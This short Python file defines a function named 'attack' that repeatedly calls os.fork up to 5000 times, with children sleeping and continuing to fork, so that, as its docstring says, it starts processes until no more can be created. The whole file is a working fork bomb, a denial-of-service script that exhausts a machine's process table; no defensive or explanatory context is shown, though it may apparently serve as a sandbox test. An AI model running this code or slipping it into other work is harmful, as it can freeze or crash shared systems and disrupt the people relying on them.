"""Starts processes until there are no more."""

import os
import time


def attack() -> bool:
    count = 0
    while count < 5000:
        try:
            if os.fork() == 0:
                time.sleep(600)
        except OSError:
            return False
        count += 1
    return True
